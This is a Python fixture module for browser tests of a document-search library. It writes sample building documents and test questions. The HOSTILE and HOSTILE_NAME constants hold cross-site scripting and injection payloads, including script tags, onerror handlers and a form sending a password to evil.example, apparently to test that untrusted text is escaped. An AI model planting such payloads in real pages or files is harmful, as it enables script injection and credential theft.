"""The documents that the browser tests ask, and the questions that reach each kind of answer."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import TYPE_CHECKING

from small import write

from index import Library

if TYPE_CHECKING:
    from index.types import Encoder

__all__ = [
    "ANSWERED",
    "DOCUMENTS",
    "FEW",
    "HOSTILE",
    "HOSTILE_NAME",
    "LONG",
    "PAGED",
    "TITLE",
    "UNANSWERED",
    "UNASKABLE",
    "few",
    "house",
    "renew",
]

EXAMPLES = Path(__file__).parents[2] / "examples/documents"

# A title is a person's own text, so it is shown as it stands.
TITLE = "House & <i>garden</i>"

HOSTILE = (
    "The garden gnome code is <script>window.broken = 1</script> <b>not bold</b> "
    "<img src=https://evil.example/x.png onerror=window.broken=1> "
    '<a class="cite" href="#cite/1-aaaaaaaaaaaa/0-4">[9]</a> [9](#cite/1-aaaaaaaaaaaa/0-4) '
    '<form action="https://evil.example"><input name="password"></form> '
    "![x](https://evil.example/y.png) $$x^2$$ ${window.broken=1} {{window.broken}} \u202eevil."
)
HOSTILE_NAME = "<img src=x onerror=alert(1)>.txt"

# Long words make a long text of few passages, which is indexed quickly.
_SENTENCE = (
    "Notwithstanding thunderstorms, conscientious superintendents meticulously documented "
    "extraordinary circumstances.\n\n"
)
_HANDBOOK = "# The keeper's handbook\n\n" + "".join(
    f"## Part {part}\n\n"
    + _SENTENCE * 48
    + ("The lantern is lit with whale oil only in March.\n\n" if part == 13 else "")
    for part in range(1, 37)
)
_OWN: dict[str, str | bytes] = {
    "garden.md": (
        "# Garden rules\n\nDogs are kept on a lead in the garden. Cats may walk freely.\n\n"
        "## Watering\n\n- Beds are watered before nine in the morning.\n- The hose is rolled up.\n"
    ),
    "minutes/2024.txt": (
        "Minutes of the owners' meeting.\n\n"
        + "The owners talked about the stairwell for a long time and agreed on nothing.\n\n" * 60
        + "The owners agreed to replace the boiler in June 2024. It cost 12,400 pounds."
    ),
    "handbook.md": _HANDBOOK,
    "notes.md": (
        "# Ports\n\nFirst a table.\n\n"
        "| Port | Service | Reachable from | Encrypted | Owner | Restarted |\n"
        "|---|---|---|---|---|---|\n"
        "| 5432 | database of the ferry bookings | office only | yes | Ines Halloran | on Sundays |"
        "\n| 8080 | public timetable | everywhere | no | Tom Wick | never |\n\n"
        "The timetable is restarted by the night watch. It runs alone.\n\n"
        "```\ndef start():\n    pass\n```\n"
    ),
    "gate.txt": "The gate opens at six.\n",
    "hostile.txt": HOSTILE,
    HOSTILE_NAME: "The strange file name belongs to a file about kites.",
    "broken.pdf": b"%PDF-1.4 cut",
}
_COPIED = {
    "policy.pdf": "building/lift-maintenance-policy.pdf",
    "policy-2021.md": "building/lift-maintenance-policy-2021.md",
    "hours.csv": "visitors/opening-hours.csv",
}
DOCUMENTS = len(_OWN) + len(_COPIED) - 1  # broken.pdf is none

# For tests that add and remove.
_FEW = {
    "lift.txt": "The lift is inspected every twelve months.",
    "garden/dogs.txt": "Dogs are kept on a lead in the garden.",
    "garden/beds.txt": "Beds are watered before nine in the morning.",
    "garden/gate.txt": "The garden gate is locked at ten in the evening.",
    "old.txt": "The cellar is dry.",
}
FEW = len(_FEW)

ANSWERED = "Where are dogs kept on a lead?"
PAGED = "How often are the passenger lifts inspected and serviced?"
LONG = "What is inspected?"
UNANSWERED = "Who won the chess championship in Reykjavik?"
UNASKABLE = "x" * 2_001


def house(folder: Path) -> Path:
    """Write the documents of a house below `folder` and return it."""
    write(folder, _OWN)
    for name, example in _COPIED.items():
        shutil.copy(EXAMPLES / example, folder / name)
    return folder


def few(folder: Path) -> Path:
    """Write `FEW` small documents below `folder` and return it."""
    return write(folder, _FEW)


def renew(library: Path, encoder: Encoder) -> None:
    """Make the library at `library` hold the few documents and nothing else, new or not."""
    folder = library.with_suffix("")
    shutil.rmtree(folder, ignore_errors=True)
    with Library.open(library, create=True, encoder=encoder) as opened:
        opened.dismiss(opened.failures())
        documents = opened.documents()
        gone: list[int | Path] = [
            d.id for d in documents if d.file is None or folder not in d.file.parents
        ]
        if any(source.location == folder for source in opened.sources()):
            gone.append(folder)  # forgets too what was removed from it one by one
        if gone:
            opened.remove(*gone)
        opened.sync(few(folder))
